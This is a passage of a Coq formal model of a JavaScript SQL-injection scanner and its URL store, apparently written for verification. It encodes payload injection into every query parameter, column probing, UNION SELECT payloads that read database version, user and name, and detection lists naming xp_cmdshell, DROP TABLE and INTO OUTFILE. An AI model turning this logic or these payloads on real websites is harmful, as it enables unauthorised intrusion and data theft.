(** * A shallow embedding of the SQL-injection scanner and its URL store

  The development follows the JavaScript sources module by module:
  - [Js]       : the fragment of the JavaScript platform the code relies on
                 (strings, values, [URL] objects and [URLSearchParams]);
  - [Utils]    : [src/utils.js];
  - [Config]   : [validateItem] and the catalog filter of [src/config.js];
  - [UrlStore] : the [URLStore] class (tested-URL set and per-domain limiter);
  - [Scanner]  : [testSQLInjection] and its stages.

  Conventions.  A JavaScript string is a [string]: a sequence of code units
  below 256, so that [length] is [String.length] and case mapping is the
  Latin-1 one.  A [Set] of the scanner result is an insertion-ordered list
  without repetition and a [Map] an insertion-ordered association list,
  because the code iterates over them; the sets and maps of the URL store
  are only queried, and are [gset]s and [gmap]s.  Asynchronous code is a
  state-and-exception monad over a world that holds the result object and the
  trace of every observable effect (requests, log lines, mutations of the
  result, delays, file writes). *)

From Stdlib Require Import ZArith Lia Ascii.
From stdpp Require Import base option list strings gmap.

Local Open Scope Z_scope.

(** ** The JavaScript platform *)

Module Js.

(** *** Characters and strings *)

Definition code (c : ascii) : N := Ascii.N_of_ascii c.

Definition inRange (lo hi : N) (c : ascii) : bool :=
  ((lo <=? code c) && (code c <=? hi))%N.

(** [WhiteSpace] and [LineTerminator] code units below 256: what
    [String.prototype.trim] strips and what [\s] matches. *)
Definition isWhiteSpace (c : ascii) : bool :=
  inRange 9 13 c || (code c =? 32)%N || (code c =? 160)%N.

Definition isUpper (c : ascii) : bool :=
  inRange 65 90 c || (inRange 192 222 c && negb (code c =? 215)%N).

Definition lowerChar (c : ascii) : ascii :=
  if isUpper c then Ascii.ascii_of_N (code c + 32) else c.

(** Canonicalisation of a code unit under the [i] flag of a regular
    expression without the [u] flag, restricted to what matters for patterns
    made of ASCII characters: only the ASCII letters are folded. *)
Definition foldChar (c : ascii) : ascii :=
  if inRange 65 90 c then Ascii.ascii_of_N (code c + 32) else c.

Fixpoint mapChars (f : ascii → ascii) (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c r => String (f c) (mapChars f r)
  end.

Definition toLowerCase (s : string) : string := mapChars lowerChar s.

Fixpoint startsWith (p s : string) : bool :=
  match p, s with
  | EmptyString, _ => true
  | String a p', String b s' => bool_decide (a = b) && startsWith p' s'
  | String _ _, EmptyString => false
  end.

(** [s.includes(p)] *)
Fixpoint includes (p s : string) : bool :=
  startsWith p s ||
  match s with
  | EmptyString => false
  | String _ r => includes p r
  end.

Fixpoint trimStart (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c r => if isWhiteSpace c then trimStart r else s
  end.

Fixpoint trimEnd (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c r =>
      match trimEnd r with
      | EmptyString => if isWhiteSpace c then EmptyString else String c EmptyString
      | r' => String c r'
      end
  end.

Definition trim (s : string) : string := trimEnd (trimStart s).

(** [s.replace(/[class]/g, '')] *)
Fixpoint removeChars (cls : ascii → bool) (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c r => if cls c then removeChars cls r else String c (removeChars cls r)
  end.

(** [s.replace(/[class]/g, by)] for a one-character replacement *)
Definition replaceChars (cls : ascii → bool) (by_ : ascii) (s : string) : string :=
  mapChars (λ c, if cls c then by_ else c) s.

Fixpoint join (sep : string) (l : list string) : string :=
  match l with
  | [] => ""
  | [x] => x
  | x :: r => x +:+ sep +:+ join sep r
  end.

(** [s.split(sep).pop()] for a one-character separator: the segment after
    the last separator, the whole string when there is none.  [acc] is the
    segment read so far. *)
Fixpoint lastSegment (sep : ascii) (acc s : string) : string :=
  match s with
  | EmptyString => acc
  | String c r =>
      if bool_decide (c = sep) then lastSegment sep "" r
      else lastSegment sep (acc +:+ String c "") r
  end.

(** *** Regular expressions used by the sources

    A pattern is a sequence of atoms; it is matched at a position by
    backtracking, as [RegExp.prototype.exec] does. *)

Inductive Atom :=
| Lit (c : ascii)              (* a character, compared under the [i] flag *)
| Spaces                       (* [\s+] *).

Abbreviation Pattern := (list Atom).

Fixpoint literal (s : string) : Pattern :=
  match s with
  | EmptyString => []
  | String c r => Lit c :: literal r
  end.

(** Does [p] match a prefix of [s]?  [\s+] takes one white-space character
    and then either repeats or hands over to the rest of the pattern. *)
Fixpoint matchHere (p : Pattern) : string → bool :=
  match p with
  | [] => λ _, true
  | Lit c :: p' => λ s,
      match s with
      | String d r => bool_decide (foldChar c = foldChar d) && matchHere p' r
      | EmptyString => false
      end
  | Spaces :: p' =>
      fix spaces (s : string) : bool :=
        match s with
        | String d r => isWhiteSpace d && (spaces r || matchHere p' r)
        | EmptyString => false
        end
  end.

(** [pattern.test(s)]: a match at some position. *)
Fixpoint test (p : Pattern) (s : string) : bool :=
  matchHere p s ||
  match s with
  | EmptyString => false
  | String _ r => test p r
  end.

(** *** Values *)

Inductive Value :=
| Undefined
| Null
| Bool (b : bool)
| Num (n : Z)
| Str (s : string).

Definition isString (v : Value) : bool :=
  match v with Str _ => true | _ => false end.

Definition digit (n : Z) : ascii := Ascii.ascii_of_N (48 + Z.to_N n).

Fixpoint digits (fuel : nat) (n : Z) (acc : string) : string :=
  match fuel with
  | O => acc
  | S f => if n <? 10 then String (digit n) acc
           else digits f (n / 10) (String (digit (n mod 10)) acc)
  end.

Definition showNat (n : Z) : string := digits (S (Z.to_nat (Z.log2 n))) n "".

Definition showZ (n : Z) : string :=
  if n <? 0 then String "-"%char (showNat (- n)) else showNat n.

(** The conversion a template literal applies to an interpolated value. *)
Definition toString (v : Value) : string :=
  match v with
  | Undefined => "undefined"
  | Null => "null"
  | Bool true => "true"
  | Bool false => "false"
  | Num n => showZ n
  | Str s => s
  end.

(** *** URL objects

    [new URL(s)] is the platform's parser; the code reads the origin, the
    host name, the path and the query parameters of the object it returns. *)

Record URL := mkURL {
  origin : string;
  hostname : string;
  pathname : string;
  searchParams : list (string * string)
}.

Abbreviation SearchParams := (list (string * string)).

Definition has (name : string) (sp : SearchParams) : bool :=
  bool_decide (name ∈ sp.*1).

(** [searchParams.delete(name)] *)
Definition delete (name : string) (sp : SearchParams) : SearchParams :=
  filter (λ p, p.1 ≠ name) sp.

(** [searchParams.set(name, value)]: the first pair called [name] takes the
    value and the other pairs called [name] are removed; without such a pair
    one is appended. *)
Fixpoint setFirst (name value : string) (sp : SearchParams) : SearchParams :=
  match sp with
  | [] => []
  | (n, v) :: r =>
      if bool_decide (n = name) then (n, value) :: delete name r
      else (n, v) :: setFirst name value r
  end.

Definition set (name value : string) (sp : SearchParams) : SearchParams :=
  if has name sp then setFirst name value sp else sp ++ [(name, value)].

Definition withParams (u : URL) (sp : SearchParams) : URL :=
  mkURL (origin u) (hostname u) (pathname u) sp.

Class UrlParser := parseURL : string → option URL.

(** *** Exceptions and console output *)

Inductive Outcome (A : Type) :=
| Ok (a : A)
| Throw (message : string).
Global Arguments Ok {A} a.
Global Arguments Throw {A} message.

(** A line written by the [log] helper of each module, without its time
    stamp. *)
Record LogLine := mkLog { level : string; text : string }.

End Js.

Import Js.

(** ** [src/utils.js] *)

Module Utils.
Section Utils.
Context `{UrlParser}.

Definition isAlphaNum (c : ascii) : bool :=
  inRange 97 122 c || inRange 65 90 c || inRange 48 57 c.

Definition sanitizeFilename (filename : string) : string :=
  replaceChars (λ c, negb (isAlphaNum c)) "_" filename.

Definition extractDomain (url : string) : option string :=
  match parseURL url with
  | Some u => Some (hostname u)
  | None => None
  end.

(** The class [[\r\n;]] *)
Definition isBreakOrSemicolon (c : ascii) : bool :=
  (code c =? 13)%N || (code c =? 10)%N || (code c =? 59)%N.

Definition sanitizePayload (payload : Value) (maxLength : Z) : Outcome string :=
  match payload with
  | Str p =>
      if Z.of_nat (String.length p) >? maxLength
      then Throw ("Payload exceeds maximum length of " +:+ showZ maxLength +:+ " characters")
      else Ok (trim (removeChars isBreakOrSemicolon p))
  | _ => Throw "Payload must be a string"
  end.

Definition validateUrl (url : string) : bool :=
  match parseURL url with
  | Some _ => true
  | None => false
  end.

End Utils.
End Utils.

(** ** [src/config.js]: validation of catalog items *)

Module Config.

Definition sgbdPatterns : list (string * list Pattern) :=
  [ ("mysql", [literal "information_schema"; literal "@@version"; literal "mysql.user"]);
    ("postgresql", [literal "pg_sleep"; literal "current_schema"]);
    ("sqlserver", [literal "waitfor" ++ [Spaces] ++ literal "delay"; literal "xp_cmdshell"]);
    ("oracle", [literal "dbms_utility"; literal "sys.database_name"]) ].

Definition dangerousPatterns : list Pattern :=
  [ literal "drop" ++ [Spaces] ++ literal "table";
    literal "xp_cmdshell";
    literal "into" ++ [Spaces] ++ literal "outfile";
    literal "declare" ++ [Spaces] ++ literal "@cmd";
    literal "truncate";
    literal "delete" ++ [Spaces] ++ literal "from" ].

(** [patterns.some(pattern => pattern.test(item))] *)
Definition some (patterns : list Pattern) (item : string) : bool :=
  existsb (λ p, test p item) patterns.

Definition isDangerous (item : string) : bool := some dangerousPatterns item.

Definition dangerWarning (item : string) : LogLine :=
  mkLog "WARN" ("Dangerous payload detected: " +:+ item +:+
                ". Use only in authorized environments with explicit permission.").

(** [validateItem(item, type)]: the verdict and the lines it logs. *)
Definition validateItem (item : Value) (type : string) : bool * list LogLine :=
  match item with
  | Str s =>
      if bool_decide (String.length (trim s) = 0%nat)
      then (false, [mkLog "WARN" ("Invalid " +:+ type +:+ ": " +:+ toString item)])
      else if bool_decide (type = "payload")
      then (true,
            omap (λ '(sgbd, patterns),
                    if some patterns s
                    then Some (mkLog "INFO" ("Payload detected for " +:+ sgbd +:+ ": " +:+ s))
                    else None) sgbdPatterns
            ++ (if isDangerous s then [dangerWarning s] else []))
      else (true, [])
  | _ => (false, [mkLog "WARN" ("Invalid " +:+ type +:+ ": " +:+ toString item)])
  end.

(** [array.filter(payload => validateItem(payload, 'payload'))], applied to
    each DBMS list of each catalog category. *)
Definition validatePayloads (items : list Value) : list Value :=
  filter (λ item, (validateItem item "payload").1 = true) items.

End Config.

(** ** The [URLStore] class *)

Module UrlStore.
Section UrlStore.
Context `{UrlParser}.

Record URLStoreConfig := mkConfig {
  maxPathsPerDomain : Z;
  cooldownPeriod : Z;
  stateFile : option string
}.

Definition DEFAULT_CONFIG : URLStoreConfig := mkConfig 5 300000 None.

Record URLStore := mkStore {
  config : URLStoreConfig;
  testedUrls : gset string;
  vulnerableUrls : gmap string (list string);
  seenDomains : gmap string (gset string);
  lastTestedTime : gmap string Z
}.

(** The store a constructor call leaves behind; the state file, when there is
    one, is read and written asynchronously and is not part of the model. *)
Definition new (cfg : URLStoreConfig) : URLStore := mkStore cfg ∅ ∅ ∅ ∅.

Definition trackingParams : list string :=
  ["utm_source"; "utm_medium"; "utm_campaign"; "ref"; "fbclid"].

Definition normalizeUrl (url : string) : string :=
  match parseURL url with
  | Some urlObj =>
      let urlObj := withParams urlObj
                      (foldl (λ sp param, Js.delete param sp) (searchParams urlObj) trackingParams) in
      origin urlObj +:+ pathname urlObj
  | None => url
  end.

Definition getDomain (url : string) : option string := Utils.extractDomain url.

(** A host name is truthy when it is not the empty string. *)
Definition truthy (domain : option string) : option string :=
  match domain with
  | Some d => if bool_decide (d = "") then None else Some d
  | None => None
  end.

(** [isUrlTested(url)] at time [now = Date.now()]. *)
Definition isUrlTested (now : Z) (url : string) (s : URLStore) : bool * URLStore :=
  let normalizedUrl := normalizeUrl url in
  let domain := getDomain url in
  if bool_decide (normalizedUrl ∈ testedUrls s) then (true, s)
  else
    match truthy domain with
    | Some domain =>
        match seenDomains s !! domain with
        | Some paths =>
            if bool_decide (Z.of_nat (size paths) >= maxPathsPerDomain (config s)) then
              let lastTest := default 0 (lastTestedTime s !! domain) in
              let timeSinceLastTest := now - lastTest in
              if bool_decide (timeSinceLastTest < cooldownPeriod (config s)) then (true, s)
              else
                (false,
                 mkStore (config s) (testedUrls s) (vulnerableUrls s)
                         (<[domain := ∅]> (seenDomains s))
                         (<[domain := now]> (lastTestedTime s)))
            else (false, s)
        | None => (false, s)
        end
    | None => (false, s)
    end.

(** The path added for a URL whose domain is truthy. *)
Definition pathOf (url : string) : string :=
  match parseURL url with
  | Some u => pathname u
  | None => ""
  end.

(** [markUrlAsTested(url)] at time [now]. *)
Definition markUrlAsTested (now : Z) (url : string) (s : URLStore) : URLStore :=
  let normalizedUrl := normalizeUrl url in
  let domain := getDomain url in
  let tested := {[normalizedUrl]} ∪ testedUrls s in
  match truthy domain with
  | Some domain =>
      let seen := match seenDomains s !! domain with
                  | Some _ => seenDomains s
                  | None => <[domain := ∅]> (seenDomains s)
                  end in
      let paths := default ∅ (seen !! domain) in
      mkStore (config s) tested (vulnerableUrls s)
              (<[domain := {[pathOf url]} ∪ paths]> seen)
              (<[domain := now]> (lastTestedTime s))
  | None =>
      mkStore (config s) tested (vulnerableUrls s) (seenDomains s) (lastTestedTime s)
  end.

(** [addVulnerableUrl(url, payload)] *)
Definition addVulnerableUrl (url payload : string) (s : URLStore) : URLStore :=
  let normalizedUrl := normalizeUrl url in
  let vulnerable := match vulnerableUrls s !! normalizedUrl with
                    | Some _ => vulnerableUrls s
                    | None => <[normalizedUrl := []]> (vulnerableUrls s)
                    end in
  let payloads := default [] (vulnerable !! normalizedUrl) in
  let vulnerable := if bool_decide (payload ∈ payloads) then vulnerable
                    else <[normalizedUrl := payloads ++ [payload]]> vulnerable in
  mkStore (config s) (testedUrls s) vulnerable (seenDomains s) (lastTestedTime s).

(** [cleanupOldEntries()] at time [now]: every domain whose last test is
    older than the cooldown leaves both maps. *)
Definition expired (now : Z) (s : URLStore) (domain : string) : Prop :=
  ∃ time, lastTestedTime s !! domain = Some time ∧ now - time > cooldownPeriod (config s).

Global Instance expired_dec now s domain : Decision (expired now s domain).
Proof.
  unfold expired. destruct (lastTestedTime s !! domain) as [time|].
  - destruct (decide (now - time > cooldownPeriod (config s))).
    + left. eauto.
    + right. intros (t & [= <-] & ?). done.
  - right. intros (t & [=] & ?).
Defined.

Definition cleanupOldEntries (now : Z) (s : URLStore) : URLStore :=
  mkStore (config s) (testedUrls s) (vulnerableUrls s)
          (filter (λ kv, ¬ expired now s kv.1) (seenDomains s))
          (filter (λ kv, ¬ expired now s kv.1) (lastTestedTime s)).

Record URLStoreStats := mkStats {
  totalTested : nat;
  totalVulnerable : nat;
  uniqueDomains : nat;
  recentlyTestedDomains : nat
}.

Definition getStats (now : Z) (s : URLStore) : URLStoreStats :=
  mkStats (size (testedUrls s)) (size (vulnerableUrls s)) (size (seenDomains s))
          (size (filter (λ kv, now - kv.2 < cooldownPeriod (config s)) (lastTestedTime s))).

(** The callback with which [searchGoogle] filters the URLs it found: the
    admission check, immediately followed by the commit when the URL is valid
    and admitted. *)
Definition submit (now : Z) (url : string) (s : URLStore) : bool * URLStore :=
  let isValid := Utils.validateUrl url in
  let '(isTested, s) := isUrlTested now url s in
  if isValid && negb isTested then (true, markUrlAsTested now url s) else (false, s).

(** The operations a client of the store can perform once it is built. *)
Inductive Op :=
| IsUrlTested (now : Z) (url : string)
| MarkUrlAsTested (now : Z) (url : string)
| AddVulnerableUrl (url payload : string)
| CleanupOldEntries (now : Z).

Definition perform (op : Op) (s : URLStore) : URLStore :=
  match op with
  | IsUrlTested now url => (isUrlTested now url s).2
  | MarkUrlAsTested now url => markUrlAsTested now url s
  | AddVulnerableUrl url payload => addVulnerableUrl url payload s
  | CleanupOldEntries now => cleanupOldEntries now s
  end.

Definition performAll (ops : list Op) (s : URLStore) : URLStore :=
  foldl (λ s op, perform op s) s ops.

End UrlStore.
End UrlStore.

(** ** The scanner: [testSQLInjection] and its stages *)

Module Scanner.

(** *** The result object *)

Inductive InfoKey := Version | User | CurrentDb.

Record DatabaseInfo := mkInfo {
  version : option string;
  user : option string;
  currentDb : option string
}.

Record SQLInjectionResult := mkResult {
  vulnerable : bool;
  columns : list string;
  tables : list string;                      (* Set<string> *)
  databases : list string;                   (* Set<string> *)
  tableData : list (string * list string);   (* Map<string, string[]> *)
  databaseInfo : DatabaseInfo;
  successfulPayloads : list string
}.

(** The object literal [testSQLInjection] starts from. *)
Definition emptyResult : SQLInjectionResult :=
  mkResult false [] [] [] [] (mkInfo None None None) [].

(** The own properties of the result object, as a caller reads them. *)
Inductive Property :=
| PBoolean (b : bool)
| PNumber (n : Z)
| PArray (l : list string)
| PSet (l : list string)
| PMap (m : list (string * list string))
| PInfo (i : DatabaseInfo).

Definition getProperty (r : SQLInjectionResult) (key : string) : option Property :=
  if bool_decide (key = "vulnerable") then Some (PBoolean (vulnerable r))
  else if bool_decide (key = "columns") then Some (PArray (columns r))
  else if bool_decide (key = "tables") then Some (PSet (tables r))
  else if bool_decide (key = "databases") then Some (PSet (databases r))
  else if bool_decide (key = "tableData") then Some (PMap (tableData r))
  else if bool_decide (key = "databaseInfo") then Some (PInfo (databaseInfo r))
  else if bool_decide (key = "successfulPayloads") then Some (PArray (successfulPayloads r))
  else None.

(** [set.add(x)] *)
Definition setAdd (x : string) (l : list string) : list string :=
  if bool_decide (x ∈ l) then l else l ++ [x].

(** [map.set(k, v)] *)
Fixpoint mapSet {V} (k : string) (v : V) (m : list (string * V)) : list (string * V) :=
  match m with
  | [] => [(k, v)]
  | (k', v') :: r => if bool_decide (k' = k) then (k, v) :: r else (k', v') :: mapSet k v r
  end.

(** [map.get(k)] *)
Fixpoint mapGet {V} (k : string) (m : list (string * V)) : option V :=
  match m with
  | [] => None
  | (k', v') :: r => if bool_decide (k' = k) then Some v' else mapGet k r
  end.

Definition setInfo (key : InfoKey) (v : string) (i : DatabaseInfo) : DatabaseInfo :=
  match key with
  | Version => mkInfo (Some v) (user i) (currentDb i)
  | User => mkInfo (version i) (Some v) (currentDb i)
  | CurrentDb => mkInfo (version i) (user i) (Some v)
  end.

(** Every statement of the sources that writes to the result object. *)
Inductive Mutation :=
| SetVulnerable                                     (* result.vulnerable = true *)
| PushSuccessfulPayload (payload : string)          (* result.successfulPayloads.push *)
| SetDatabaseInfo (key : InfoKey) (data : string)   (* result.databaseInfo[key] = data *)
| AddDatabase (schema : string)                     (* result.databases.add *)
| AddTable (table : string)                         (* result.tables.add *)
| PushColumns (cols : list string)                  (* result.columns.push(...cols) *)
| SetTableData (table : string) (rows : list string)(* result.tableData.set *).

Definition applyMutation (m : Mutation) (r : SQLInjectionResult) : SQLInjectionResult :=
  match m with
  | SetVulnerable =>
      mkResult true (columns r) (tables r) (databases r) (tableData r) (databaseInfo r)
               (successfulPayloads r)
  | PushSuccessfulPayload p =>
      mkResult (vulnerable r) (columns r) (tables r) (databases r) (tableData r)
               (databaseInfo r) (successfulPayloads r ++ [p])
  | SetDatabaseInfo key data =>
      mkResult (vulnerable r) (columns r) (tables r) (databases r) (tableData r)
               (setInfo key data (databaseInfo r)) (successfulPayloads r)
  | AddDatabase schema =>
      mkResult (vulnerable r) (columns r) (tables r) (setAdd schema (databases r))
               (tableData r) (databaseInfo r) (successfulPayloads r)
  | AddTable table =>
      mkResult (vulnerable r) (columns r) (setAdd table (tables r)) (databases r)
               (tableData r) (databaseInfo r) (successfulPayloads r)
  | PushColumns cols =>
      mkResult (vulnerable r) (columns r ++ cols) (tables r) (databases r) (tableData r)
               (databaseInfo r) (successfulPayloads r)
  | SetTableData table rows =>
      mkResult (vulnerable r) (columns r) (tables r) (databases r)
               (mapSet table rows (tableData r)) (databaseInfo r) (successfulPayloads r)
  end.

(** *** Configuration *)

Record ScanConfig := mkScanConfig {
  requestDelay : Z;
  maxConcurrency : Z;
  maxPayloadLength : Z
}.

Definition SCAN_CONFIG : ScanConfig := mkScanConfig 100 3 1000.

(** [Partial<ScanConfig>] *)
Record PartialScanConfig := mkPartial {
  requestDelay' : option Z;
  maxConcurrency' : option Z;
  maxPayloadLength' : option Z
}.

Definition noConfig : PartialScanConfig := mkPartial None None None.

(** [{ ...SCAN_CONFIG, ...config }] *)
Definition spread (base : ScanConfig) (config : PartialScanConfig) : ScanConfig :=
  mkScanConfig (default (requestDelay base) (requestDelay' config))
               (default (maxConcurrency base) (maxConcurrency' config))
               (default (maxPayloadLength base) (maxPayloadLength' config)).

(** *** The environment of a scan *)

(** What [await axiosInstance.get(...)] gives: the body of a response whose
    status is below 500, or an exception.  [Failure] also stands for a body
    that is not a string, on which the string method applied next throws. *)
Inductive Response :=
| Body (data : string)
| Failure (message : string).

(** The collaborators of the scanner.  The two catalogs are imported from
    [config.js], which does not define them; the transport answers a request
    by its URL alone, as a stub does; [writeFile] gives the error message of
    a failed write. *)
Class Environment := mkEnvironment {
  urlParser :: UrlParser;
  DETECTION_PAYLOADS : list string;
  COLUMN_PAYLOADS : list string;
  transport : URL → Response;
  writeFile : string → option string;
  formatTimestamp : string
}.

(** *** Effects *)

Inductive Event :=
| Request (url : URL)              (* axiosInstance.get(testUrl.toString(), ...) *)
| Log (line : LogLine)             (* log(level, message) *)
| Mutate (m : Mutation)
| Delay (ms : Z)                   (* await delay(ms) *)
| WriteFile (name : string)        (* fs.writeFile(name, ...) *).

Record World := mkWorld {
  result : SQLInjectionResult;
  trace : list Event
}.

Definition applyEvent (ev : Event) (r : SQLInjectionResult) : SQLInjectionResult :=
  match ev with
  | Mutate m => applyMutation m r
  | _ => r
  end.

Definition emit (ev : Event) (w : World) : World :=
  mkWorld (applyEvent ev (result w)) (trace w ++ [ev]).

Definition M (A : Type) : Type := World → Outcome A * World.

Definition ret {A} (a : A) : M A := λ w, (Ok a, w).

Definition bind {A B} (m : M A) (f : A → M B) : M B :=
  λ w, match m w with
       | (Ok a, w') => f a w'
       | (Throw e, w') => (Throw e, w')
       end.

Definition throw {A} (message : string) : M A := λ w, (Throw message, w).

(** [try { m } catch (error) { handler(error.message) }] *)
Definition tryCatch {A} (m : M A) (handler : string → M A) : M A :=
  λ w, match m w with
       | (Ok a, w') => (Ok a, w')
       | (Throw e, w') => handler e w'
       end.

(** The value or exception of a synchronous call. *)
Definition lift {A} (o : Outcome A) : M A := λ w, (o, w).

(** A promise settles: its fulfilment or rejection becomes a value. *)
Definition settle {A} (m : M A) : M (Outcome A) :=
  λ w, let '(o, w') := m w in (Ok o, w').

Definition perform (ev : Event) : M unit := λ w, (Ok tt, emit ev w).

Definition getResult : M SQLInjectionResult := λ w, (Ok (result w), w).

Declare Scope js_scope.
Delimit Scope js_scope with js.
Bind Scope js_scope with M.
Notation "x ← y ; z" := (bind y (λ x, z)) (only parsing) : js_scope.
Notation "' x ← y ; z" := (bind y (λ x, z)) (only parsing) : js_scope.
Notation "x ;; z" := (bind x (λ _, z)) (only parsing) : js_scope.
Local Open Scope js_scope.

Definition log (level message : string) : M unit := perform (Log (mkLog level message)).
Definition mutate (m : Mutation) : M unit := perform (Mutate m).
Definition delay (ms : Z) : M unit := perform (Delay ms).

(** [for (const x of xs) body], where the body may return from the function. *)
Fixpoint forOf {X R} (xs : list X) (body : X → M (option R)) : M (option R) :=
  match xs with
  | [] => ret None
  | x :: xs' =>
      r ← body x;
      match r with
      | Some v => ret (Some v)
      | None => forOf xs' body
      end
  end.

(** [for (const [param] of testUrl.searchParams) body].  The iterator reads
    the live list by index; the body receives the URL object and gives back
    the state it leaves it in.  The bodies of the sources only call [set] on
    the parameter at hand, which never lengthens the list, so that as many
    rounds as the list is long at the start are enough. *)
Fixpoint forParamsFrom {R} (rounds index : nat) (testUrl : URL)
    (body : string → URL → M (URL * option R)) : M (URL * option R) :=
  match rounds with
  | O => ret (testUrl, None)
  | S rounds' =>
      match searchParams testUrl !! index with
      | None => ret (testUrl, None)
      | Some (param, _) =>
          '(testUrl, r) ← body param testUrl;
          match r with
          | Some v => ret (testUrl, Some v)
          | None => forParamsFrom rounds' (S index) testUrl body
          end
      end
  end.

Definition forParams {R} (testUrl : URL) (body : string → URL → M (URL * option R))
    : M (URL * option R) :=
  forParamsFrom (length (searchParams testUrl)) 0 testUrl body.

(** [testUrl.searchParams.set(param, value)] *)
Definition setParam (param value : string) (testUrl : URL) : URL :=
  withParams testUrl (Js.set param value (searchParams testUrl)).

(** [await Promise.all(tasks)] for tasks that share the state [S] (a URL
    object, or nothing), under the schedule in which each task runs to its
    end in the order of dispatch; the first rejection is the one reported,
    once every task has settled. *)
Fixpoint promiseAll {S} (tasks : list (S → M (S * Outcome unit))) (s : S)
    : M (S * Outcome unit) :=
  match tasks with
  | [] => ret (s, Ok tt)
  | task :: rest =>
      '(s, o) ← task s;
      '(s, os) ← promiseAll rest s;
      ret (s, match o with Throw e => Throw e | Ok _ => os end)
  end.

(** A task that shares nothing with its siblings. *)
Definition alone (m : M unit) : unit → M (unit * Outcome unit) :=
  λ _, (o ← settle m; ret (tt, o)).

(** [await Promise.all(tasks)] for such tasks. *)
Definition awaitAll (tasks : list (M unit)) : M unit :=
  '(_, o) ← promiseAll (map alone tasks) tt; lift o.

(** [pLimit(concurrency)] refuses a bound below one. *)
Definition pLimit (concurrency : Z) : M unit :=
  if concurrency <? 1 then throw "Expected `concurrency` to be a number from 1 and up"
  else ret tt.

(** *** Reading responses *)

(** The class [[a-zA-Z0-9_.-]] *)
Definition isMarkerChar (c : ascii) : bool :=
  inRange 97 122 c || inRange 65 90 c || inRange 48 57 c ||
  (code c =? 95)%N || (code c =? 46)%N || (code c =? 45)%N.

(** The longest prefix of [s] in the class, and what follows it. *)
Fixpoint spanMarker (s : string) : string * string :=
  match s with
  | String c r =>
      if isMarkerChar c then let '(run, rest) := spanMarker r in (String c run, rest)
      else ("", s)
  | EmptyString => ("", "")
  end.

(** [/([a-zA-Z0-9_.-]+)::/] at the start of [s]: the captured group and the
    length of the match.  The group is the longest run of the class: a
    shorter one would be followed by a character of the class and not by a
    colon. *)
Definition matchMarkerAt (s : string) : option (string * nat) :=
  let '(run, rest) := spanMarker s in
  if negb (bool_decide (run = "")) && startsWith "::" rest
  then Some (run, (String.length run + 2)%nat)
  else None.

(** [responseText.match(/([a-zA-Z0-9_.-]+)::/)]: the leftmost match. *)
Fixpoint firstMarker (s : string) : option string :=
  match matchMarkerAt s with
  | Some (run, _) => Some run
  | None =>
      match s with
      | String _ r => firstMarker r
      | EmptyString => None
      end
  end.

Definition extractDataFromResponse (responseText : string) : option string :=
  firstMarker responseText.

(** [responseText.match(/([a-zA-Z0-9_.-]+)::/g)], each match without its
    ["::"]: the search resumes where the previous match ended; [skip] counts
    the characters of that match still to pass. *)
Fixpoint allMarkers (skip : nat) (s : string) : list string :=
  match s with
  | EmptyString => []
  | String _ r =>
      match skip with
      | S k => allMarkers k r
      | O =>
          match matchMarkerAt s with
          | Some (run, len) => run :: allMarkers (len - 1) r
          | None => allMarkers 0 r
          end
      end
  end.

Definition extractListFromResponse (responseText : string) : list string :=
  filter (λ item, trim item ≠ "") (allMarkers 0 responseText).

(** [responseText.match(/sql|error|syntax/i)] *)
Definition matchesSqlError (responseText : string) : bool :=
  test (literal "sql") responseText || test (literal "error") responseText ||
  test (literal "syntax") responseText.

(** *** The stages *)

Section Stages.
Context `{Environment}.

(** [new URL(url)] *)
Definition newURL (url : string) : M URL :=
  match parseURL url with
  | Some u => ret u
  | None => throw "Invalid URL"
  end.

Definition httpGet (testUrl : URL) : M string :=
  perform (Request testUrl);;
  match transport testUrl with
  | Body data => ret data
  | Failure message => throw message
  end.

Definition sanitizePayload (payload : string) (maxLength : Z) : M string :=
  lift (Utils.sanitizePayload (Str payload) maxLength).

(** One round of the loop of [testBasicVulnerability] over the catalog. *)
Definition detectPayload (url : string) (config : ScanConfig) (payload : string)
    : M (option bool) :=
  sanitizedPayload ← sanitizePayload payload (maxPayloadLength config);
  tryCatch
    (testUrl ← newURL url;
     '(_, r) ← forParams testUrl (λ param testUrl,
         let testUrl := setParam param sanitizedPayload testUrl in
         data ← httpGet testUrl;
         let responseText := toLowerCase data in
         if matchesSqlError responseText then
           log "INFO" ("SQL injection detected with payload: " +:+ sanitizedPayload);;
           mutate (PushSuccessfulPayload sanitizedPayload);;
           ret (testUrl, Some true)
         else ret (testUrl, None));
     match r with
     | Some v => ret (Some v)
     | None => delay (requestDelay config);; ret None
     end)
    (λ message,
       log "WARN" ("Error testing payload " +:+ sanitizedPayload +:+ ": " +:+ message);;
       ret None).

Definition testBasicVulnerability (url : string) (config : ScanConfig) : M bool :=
  r ← forOf DETECTION_PAYLOADS (detectPayload url config);
  ret (default false r).

(** [for (let i = 0; i < COLUMN_PAYLOADS.length; i++)]: the payloads with
    their indices. *)
Definition indexed {X} (xs : list X) : list (nat * X) := imap (λ i x, (i, x)) xs.

(** One round of the loop of [findColumnCount]. *)
Definition probeColumns (url : string) (config : ScanConfig) (round : nat * string)
    : M (option nat) :=
  let '(i, columnPayload) := round in
  payload ← sanitizePayload columnPayload (maxPayloadLength config);
  tryCatch
    (testUrl ← newURL url;
     '(_, r) ← forParams testUrl (λ param testUrl,
         let testUrl := setParam param payload testUrl in
         data ← httpGet testUrl;
         if negb (includes "error" (toLowerCase data))
         then ret (testUrl, Some (i + 1)%nat)
         else ret (testUrl, None));
     match r with
     | Some v => ret (Some v)
     | None => delay (requestDelay config);; ret None
     end)
    (λ message,
       log "WARN" ("Error testing column payload " +:+ showZ (Z.of_nat (i + 1)) +:+
                   ": " +:+ message);;
       ret None).

Definition findColumnCount (url : string) (config : ScanConfig) : M nat :=
  r ← forOf (indexed COLUMN_PAYLOADS) (probeColumns url config);
  ret (default 0%nat r).

(** [Array(columnCount - 1).fill('NULL').join(',')] *)
Definition nulls (columnCount : nat) : string :=
  join "," (replicate (columnCount - 1) "NULL").

Definition keyName (key : InfoKey) : string :=
  match key with Version => "version" | User => "user" | CurrentDb => "currentDb" end.

Definition systemInfoPayloads (columnCount : nat) : list (InfoKey * string) :=
  [ (Version, "' UNION SELECT @@version," +:+ nulls columnCount +:+ "--");
    (User, "' UNION SELECT user()," +:+ nulls columnCount +:+ "--");
    (CurrentDb, "' UNION SELECT database()," +:+ nulls columnCount +:+ "--") ].

